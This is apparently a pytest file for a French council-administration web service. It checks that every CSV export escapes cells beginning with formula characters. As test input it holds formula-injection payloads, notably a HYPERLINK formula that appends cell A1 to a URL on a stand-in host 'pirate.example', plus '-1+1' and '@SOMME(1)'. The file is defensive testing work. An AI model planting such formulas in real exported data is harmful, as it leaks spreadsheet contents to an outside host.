"""Every CSV the service exports goes through one writer that neutralises formulas
(issue 14, item 3): a name like ``=HYPERLINK(…)`` or a first name like ``-1+1`` comes out
as text (``'=HYPERLINK(…)``), with the BOM and ``;`` kept."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from service.documents.csv_export import FORMULA_STARTS, CsvExport, safe_cell
from tests.conftest import World, bearer, web_login
from tests.letters_support import drawn_round, install_subjects

pytestmark = pytest.mark.anyio

EVIL_NAME = '=HYPERLINK("http://pirate.example/?d="&A1;"Cliquez")'
EVIL_FIRST = "-1+1"
HEADER = (
    "NomdeNaissance;NomDusage;Prenoms;Sexe;DateNaissance;Adresse1;Adresse2;CodePostal;Commune;"
    "BureauVote\n"
)
# Each CSV route of the app, by its path template: a new one must be added here (and to
# a test below), see test_every_csv_route_is_tested.
CSV_ROUTES = {
    "/api/v1/conseils/{council_id:int}/registre/imports/{source_id:int}/rejets.csv",
    "/api/v1/conseils/{council_id:int}/composition/rapport.csv",
    "/conseils/{council_id:int}/tirages/{draw_id:int}/tours/{round_no:int}/courriers/adresses.csv",
}


def _cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM kept
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _assert_neutralised(data: bytes, *expected: str) -> None:
    rows = _cells(data)
    dangerous = [c for row in rows for c in row if c.startswith(FORMULA_STARTS)]
    assert dangerous == []
    flat = [c for row in rows for c in row]
    for text in expected:
        assert any(c == "'" + text or c.startswith("'" + text) for c in flat), (text, flat)


def test_writer_neutralises_each_dangerous_start() -> None:
    for start in FORMULA_STARTS:
        assert safe_cell(start + "x") == "'" + start + "x"
    assert safe_cell("Dupont") == "Dupont" and safe_cell(12) == 12 and safe_cell("") == ""
    w = CsvExport()
    w.row(["a", "=1+1", 3])
    assert w.to_bytes() == "\ufeffa;'=1+1;3\r\n".encode()


async def test_every_csv_route_is_tested(app: Any) -> None:
    found = {
        route.path
        for route in app.routes
        if route.path.endswith(".csv") and "GET" in getattr(route, "methods", set())
    }
    assert found == CSV_ROUTES


async def test_rejected_rows_csv(client: Any, world: World) -> None:
    body = (
        HEADER
        + "MARTIN;;Jeanne;F;12/03/1980;3 Rue des Tilleuls;;37990;VALMONT;0101\n"
        + f'"{EVIL_NAME.replace(chr(34), chr(34) * 2)}";;{EVIL_FIRST};M;31/02/1980;'
          "@SOMME(1);;37990;VALMONT;0101\n"
    )
    r = await client.post(
        f"/api/v1/conseils/{world.ids['council_a']}/registre/imports",
        params={"nom": "liste.csv", "garder_valides": "true"},
        content=body.encode("utf-8"), headers=bearer(world, "lead_a"))
    assert r.status_code == 201, r.text
    got = await client.get(
        f"/api/v1/conseils/{world.ids['council_a']}/registre/imports/{r.json()['id']}/rejets.csv",
        headers=bearer(world, "lead_a"))
    assert got.status_code == 200
    _assert_neutralised(got.content, EVIL_NAME, EVIL_FIRST, "@SOMME(1)")


async def test_composition_report_csv(client: Any, world: World) -> None:
    r = await client.post(
        f"/api/v1/conseils/{world.ids['council_a']}/membres", headers=bearer(world, "lead_a"),
        json={"college": "habitants", "origin": "tire_au_sort_registre", "prenom": EVIL_FIRST,
              "nom": EVIL_NAME, "sexe": "F", "mandate_start": "2026-03-01", "stratum": "F"})
    assert r.status_code == 201, r.text
    got = await client.get(
        f"/api/v1/conseils/{world.ids['council_a']}/composition/rapport.csv",
        headers=bearer(world, "auditor_37"))
    assert got.status_code == 200
    _assert_neutralised(got.content, EVIL_NAME, EVIL_FIRST)


async def test_addresses_csv(client: Any, ctx: Any, world: World) -> None:
    from domain.adresse_postale import AdressePostale
    from service.organisation.subjects import Subject, subject_loader

    install_subjects()
    # Line 1 starts with the civility; lines 2 and 3 are free text from the registers.
    address = AdressePostale(complement_destinataire="=HYPERLINK(\"http://x.fr\")",
                             complement_lieu="-1+1 Bât. A", numero="3", voie="rue des Lilas",
                             code_postal="37000", commune="Tours")

    @subject_loader("resident")
    async def _load(ids: list[int]) -> dict[int, Subject]:
        return {i: Subject("resident", i, civilite="Madame", prenom="Ana", nom="Roux",
                           sexe="F", birth_year=1975, address=address) for i in ids}

    draw = await drawn_round(ctx, world, n=12)
    await web_login(client, world.emails["lead_a"])
    base = f"/conseils/{world.ids['council_a']}/tirages/{draw['id']}/tours/1/courriers"
    r = await client.post(base, data={"_csrf": client.cookies.get("cc_csrf")},
                          follow_redirects=False)
    assert r.status_code == 303
    page = await client.get(r.headers["location"])
    assert "prêt" in page.text, page.text[page.text.find("<main"):][:2000]
    got = await client.get(base + "/adresses.csv")
    assert got.status_code == 200, got.text[:300]
    rows = _cells(got.content)
    assert rows[0][0] == "pli"
    assert all(not c.startswith(FORMULA_STARTS) for row in rows for c in row)
    flat = [c for row in rows for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in flat), flat[:30]
    assert any(c.startswith("'-1+1") for c in flat)
